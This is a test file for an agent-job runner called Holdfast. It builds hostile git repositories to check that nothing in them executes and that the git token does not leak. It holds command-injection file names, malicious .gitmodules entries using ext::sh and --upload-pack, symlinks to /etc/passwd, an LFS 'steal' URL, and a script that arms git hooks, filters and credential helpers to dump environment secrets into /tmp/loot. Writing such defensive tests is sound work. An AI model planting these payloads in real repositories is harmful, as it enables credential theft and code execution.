import { mkdtemp, mkdir, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Sandbox } from 'e2b'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { git } from '../../src/demo/git.ts'
import type { AgentJobInput } from '../../src/index.ts'
import { eventOf, type Holdfast, startHoldfast } from '../support/holdfast.ts'

let holdfast: Holdfast
beforeAll(async () => {
  holdfast = await startHoldfast()
  // With the token in the environment of git's own commands, which is where it could be taken.
  await holdfast.startWorker({ HOLDFAST_SECRETS_BY_EGRESS: 'never' })
})
afterAll(() => holdfast.stop())

async function pageOf(id: string): Promise<string> {
  const metadata = await holdfast.workflows
    .getHandle(id)
    .query<{ currentDetails: string }>('__temporal_workflow_metadata')
  return metadata.currentDetails
}

/** Puts into the repository what no honest one has. */
async function makeHostile(repository: string): Promise<void> {
  const folder = await mkdtemp(join(tmpdir(), 'holdfast-hostile-'))
  const write = (name: string | Buffer, content: string): Promise<void> =>
    writeFile(Buffer.concat([Buffer.from(`${folder}/`), Buffer.from(name)]), content)
  try {
    await git(folder, ['clone', '--quiet', repository, '.'])
    await write('line\nbreak\ttab.txt', 'x')
    await write('--output=stolen', 'x')
    await write('\u202Egnp.exe', 'x')
    await write('\u001B[31mred\u001B[2J.txt', 'x')
    await write(Buffer.from([0x6e, 0x6f, 0x74, 0xff, 0xfe]), 'x')
    await write('`touch pwned`$(touch pwned)', 'x')
    await mkdir(join(folder, 'nested/.github'), { recursive: true })
    await symlink('/tmp', join(folder, 'outside'))
    await symlink('../../../../etc/passwd', join(folder, 'passwd'))
    await write('large.bin', 'version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5\n')
    await write('.lfsconfig', '[lfs]\n\turl = http://127.0.0.1:9/steal\n')
    await write('.gitattributes', '* filter=evil diff=evil merge=evil\n*.bin filter=lfs\n')
    await write(
      '.gitmodules',
      ['ext::sh -c touch% /tmp/pwned', '--upload-pack=touch /tmp/pwned', 'file:///etc']
        .map(
          (url, n) => `[submodule "m${n}"]\n\tpath = m${n}\n\turl = ${url}\n\tupdate = !touch /tmp/pwned\n`,
        )
        .join(''),
    )
    await git(folder, ['add', '-A'])
    const commit = await git(folder, ['rev-parse', 'HEAD'])
    for (const module of ['m0', 'm1', 'm2'])
      await git(folder, ['update-index', '--add', '--cacheinfo', `160000,${commit},${module}`])
    const identity = ['-c', 'user.name=Someone', '-c', 'user.email=someone@holdfast.invalid']
    await git(folder, [...identity, 'commit', '--quiet', '-m', 'Hostile'])
    await git(folder, ['push', '--quiet', 'origin', 'HEAD'])
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

async function hostileSpec(changes: Partial<AgentJobInput>) {
  const spec = await holdfast.spec(changes)
  const repository = holdfast.repository(spec.repo.url)
  await makeHostile(repository.path)
  return { spec, repository }
}

/** What could steal does so into this file. */
const LOOT = '/tmp/loot'
const ARMS = `set -e
for hook in pre-commit commit-msg post-commit pre-push post-checkout reference-transaction; do
  printf '#!/bin/sh\\nenv >>${LOOT}\\n' >.git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config core.hooksPath .git/hooks
git config core.fsmonitor 'env >>${LOOT}; false'
git config filter.evil.clean 'env >>${LOOT}; cat'
git config filter.evil.smudge 'env >>${LOOT}; cat'
git config diff.evil.textconv 'env >>${LOOT}; cat'
git config diff.external 'env >>${LOOT}; false'
git config credential.helper '!f() { cat >>${LOOT}; env >>${LOOT}; }; f'
git config core.sshCommand 'env >>${LOOT}; false'
git config core.editor 'env >>${LOOT}; false'
printf '[credential]\n\thelper = "!f() { cat >>${LOOT}; env >>${LOOT}; }; f"\n[core]\n\tpager = env >>${LOOT}\n\taskPass = env >>${LOOT}\n' >.git/included
git config include.path included
git config includeIf.gitdir:/.path "$PWD/.git/included"
touch armed`

test('names, links, modules and attributes of a hostile repository are carried as they are, and nothing of them runs', async () => {
  const { spec, repository } = await hostileSpec({
    steps: [
      { write: 'NOTES.md', content: 'made by a job\n' },
      { run: 'rm -- "--output=stolen"; echo y >>"$(ls not*)"' },
    ],
    checks: [{ run: 'test -L outside && cat -- passwd >shown.txt; rm -f shown.txt; ls -la' }],
    review: {},
    sandbox: { keep: 'always' },
  })
  const job = await holdfast.jobs.submit(spec)
  await Promise.race([eventOf(job, 'reviewRequested'), job.result()])
  const page = await pageOf(job.id)
  // eslint-disable-next-line no-control-regex -- these are what is looked for
  expect(page).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F\u202E]/)
  await job.approve({ by: 'the test' })
  const { commit, diff, sandbox } = await job.result()
  expect(diff).toMatchObject({ files: 3 })
  const names = async (revision: string): Promise<string[]> =>
    (await git(repository.path, ['ls-tree', '-r', '--name-only', revision])).split('\n').toSorted()
  const before = await names('main')
  expect(before.length).toBeGreaterThan(12)
  expect(await names(commit!)).toEqual(
    [...before.filter((name) => name !== '--output=stolen'), 'NOTES.md'].toSorted(),
  )
  expect(await repository.show(`${commit}:NOTES.md`)).toBe('made by a job')
  const inside = await Sandbox.connect(sandbox.sandboxId!, holdfast.sandboxes.connection)
  const { stdout } = await inside.commands.run(
    'ls -d /tmp/pwned ~/repo/pwned ~/repo/stolen 2>/dev/null || true',
  )
  expect(stdout).toBe('')
})

test.each([
  ['a link that leads out', 'outside/file'],
  ['a link to a file outside', 'passwd'],
])('a step that writes through %s ends the job, and nothing is written', async (_what, path) => {
  const { spec } = await hostileSpec({ steps: [{ write: path, content: 'x' }], sandbox: { keep: 'never' } })
  const job = await holdfast.jobs.submit(spec)
  await expect(job.result()).rejects.toMatchObject({ type: 'StepFailed' })
})

test('hooks, filters, helpers and monitors that an agent has put into the config never see the token', async () => {
  const { spec, repository } = await hostileSpec({
    steps: [{ run: ARMS }, { run: 'git checkout -q -- . ; echo z >z.txt' }],
    push: { onConflict: 'rebase' },
    sandbox: { keep: 'always' },
  })
  const job = await holdfast.jobs.submit(spec)
  const { commit, sandbox } = await job.result()
  expect(await repository.show(`${commit}:z.txt`)).toBe('z')
  const inside = await Sandbox.connect(sandbox.sandboxId!, holdfast.sandboxes.connection)
  const loot = (await inside.commands.run(`cat ${LOOT}`)).stdout
  // It did run, as the sandbox's user may; only not beside the token.
  expect(loot).toContain('HOME=')
  expect(loot).not.toContain(holdfast.gitToken)
  expect(loot).not.toContain('HOLDFAST_GIT_PASSWORD')
})

test('a push that the config leads elsewhere does not count as one', async () => {
  const { spec, repository } = await hostileSpec({ sandbox: { keep: 'never' } })
  const divert = `git init -q --bare /tmp/elsewhere.git && git config url./tmp/elsewhere.git.insteadOf ${spec.repo.url}`
  const job = await holdfast.jobs.submit({
    ...spec,
    steps: [{ run: divert }, { write: 'NOTES.md', content: 'x' }],
  })
  await expect(job.result()).rejects.toMatchObject({ type: 'PushNotFastForward' })
  expect(await repository.head('holdfast/work')).toBeUndefined()
})

test('a diff of 60 MB in 5,000 files is pushed whole, and told in bounds', async () => {
  const { spec, repository } = await hostileSpec({
    steps: [
      {
        run: `mkdir many && cd many && seq 5000 | split -l 1 -a 4 && cd .. && yes 'a line of text that goes on and on' | head -c 60000000 >huge.txt`,
      },
    ],
    review: {},
  })
  const job = await holdfast.jobs.submit(spec)
  await eventOf(job, 'reviewRequested')
  const diff = await job.diff()
  expect(diff).toMatchObject({ files: 5_001, truncated: true })
  expect(diff!.text.length).toBeLessThanOrEqual(200 * 1024)
  expect((await pageOf(job.id)).length).toBeLessThanOrEqual(8 * 1024)
  await job.approve({ by: 'the test' })
  const { commit } = await job.result()
  expect(await repository.head('holdfast/work')).toBe(commit)
})
